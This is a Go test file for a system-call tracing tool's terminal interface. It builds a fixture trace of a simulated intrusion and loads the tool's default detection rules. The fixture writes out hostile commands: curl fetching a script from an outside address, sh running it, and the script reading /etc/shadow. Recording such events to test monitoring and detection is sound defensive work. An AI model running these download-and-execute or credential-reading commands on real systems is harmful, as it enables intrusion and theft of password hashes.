package tui

import (
	"path/filepath"
	"testing"

	"github.com/syscam/syscam/event"
	"github.com/syscam/syscam/format"
	"github.com/syscam/syscam/rules"
	"github.com/syscam/syscam/state/statetest"
	"github.com/syscam/syscam/tui/data"
)

// fixtureStart is 2026-11-27T06:00:00Z: fixture times (in seconds) count from it.
const fixtureStart = int64(1795759200) * 1e9

// fixture is a small intrusion: from a login shell, curl fetches a script over
// HTTP and saves it, sh runs it, cat reads /etc/shadow and a sleep is killed;
// sshd and the shell existed before the capture.
const fixture = `
0 0 userinfo uid=0 gid=0 name=root home=/root shell=/bin/bash
0 0 userinfo uid=1000 gid=1000 name=alice home=/home/alice shell=/bin/bash
0 1 procinfo ppid=0 comm=systemd exepath=/usr/lib/systemd/systemd argv="/sbin/init splash" cwd=/ start_time=-3600 sid=1 pgid=1
0 100 procinfo ppid=1 comm=sshd exepath=/usr/sbin/sshd argv="sshd: /usr/sbin/sshd -D" cwd=/ start_time=-1800 sid=100 pgid=100
0 100 fdinfo fd=3 type=ipv4 local=0.0.0.0:22 proto=IPPROTO_TCP role=server
0 200 procinfo ppid=100 comm=bash exepath=/usr/bin/bash argv=-bash cwd=/root start_time=-60 sid=200 pgid=200 tty=34816
0 200 fdinfo fd=0 type=file flags=O_RDWR name=/dev/pts/0
0 200 fdinfo fd=1 type=file flags=O_RDWR name=/dev/pts/0
0 200 fdinfo fd=2 type=file flags=O_RDWR name=/dev/pts/0
1 200 procfork child_tid=300 child_pid=300 comm=bash
1.1 300 execve filename=/usr/bin/curl argv="curl -s http://203.0.113.7/install.sh -o /tmp/install.sh" exepath=/usr/bin/curl cwd=/root comm=curl ppid=200 sid=200 pgid=300 tty=34816
1.2 300 socket ret=3 domain=AF_INET type=SOCK_STREAM proto=0
1.3 300 connect ret=0 fd=3 addr=203.0.113.7:80 local=10.0.0.5:40022 remote=203.0.113.7:80
1.4 300 write ret=47 fd=3 data="GET /install.sh HTTP/1.1\r\nHost: 203.0.113.7\r\n\r\n" size=47
1.5 300 read ret=58 fd=3 data="HTTP/1.1 200 OK\r\n\r\n#!/bin/sh\ncat /etc/shadow\nsleep 1000 &\n" size=4096
1.6 300 openat ret=4 dirfd=AT_FDCWD name=/tmp/install.sh flags=O_WRONLY|O_CREAT|O_TRUNC mode=0644
1.7 300 write ret=39 fd=4 data="#!/bin/sh\ncat /etc/shadow\nsleep 1000 &\n" size=39
1.8 300 close ret=0 fd=4
1.9 300 close ret=0 fd=3
2 300 procexit status=0
3 200 procfork child_tid=301 child_pid=301 comm=bash
3.1 301 execve filename=/bin/sh argv="sh /tmp/install.sh" exepath=/usr/bin/dash cwd=/root comm=sh ppid=200 sid=200 pgid=301 tty=34816
3.2 301 openat ret=3 dirfd=AT_FDCWD name=/tmp/install.sh flags=O_RDONLY
3.3 301 read ret=39 fd=3 data="#!/bin/sh\ncat /etc/shadow\nsleep 1000 &\n" size=8192
3.4 301 procfork child_tid=302 child_pid=302 comm=sh
3.5 302 execve filename=/bin/cat argv="cat /etc/shadow" exepath=/usr/bin/cat cwd=/root comm=cat ppid=301 sid=200 pgid=301 tty=34816
3.6 302 openat ret=3 dirfd=AT_FDCWD name=/etc/shadow flags=O_RDONLY
3.7 302 read ret=31 fd=3 data="root:$6$x$y:19000:0:99999:7:::\n" size=4096
3.8 302 write ret=31 fd=1 data="root:$6$x$y:19000:0:99999:7:::\n" size=31
3.9 302 procexit status=0
4 301 procfork child_tid=303 child_pid=303 comm=sh
4.1 303 execve filename=/bin/sleep argv="sleep 1000" exepath=/usr/bin/sleep cwd=/root comm=sleep ppid=301 sid=200 pgid=301 tty=34816
4.5 301 procexit status=0
6 303 procexit sig=SIGKILL
7 200 read ret=1 fd=0 data="\n" size=1
`

// writeFixture writes the fixture as a trace file, a few events per block so that
// paging crosses blocks, and returns it open.
func writeFixture(t testing.TB) *data.Trace {
	t.Helper()
	evs, err := statetest.Parse(fixture)
	if err != nil {
		t.Fatal(err)
	}
	for _, ev := range evs {
		ev.Time += fixtureStart
		if ev.Type == event.TypeProcInfo {
			ev.SetInt(18, ev.Uint(18)+uint64(fixtureStart)) // start_time
		}
	}
	path := filepath.Join(t.TempDir(), "fixture.syscam")
	h := format.Header{Recorder: "test", Created: fixtureStart, Host: format.Host{Hostname: "web1"}}
	w, err := format.Create(path, h, format.WriterOptions{BlockEvents: 8})
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for n < len(evs) && event.Lookup(evs[n].Type).Category == event.CatState {
		n++
	}
	if err := w.WriteState(fixtureStart, evs[:n]); err != nil {
		t.Fatal(err)
	}
	for _, ev := range evs[n:] {
		if err := w.Write(ev); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	tr, err := data.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { tr.Close() })
	return tr
}

// defaultRules compiles syscam's default ruleset.
func defaultRules(t testing.TB) *rules.Engine {
	t.Helper()
	l := rules.NewLoader()
	if err := l.LoadDefault(); err != nil {
		t.Fatal(err)
	}
	eng, err := rules.Compile(l.Ruleset(), rules.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return eng
}
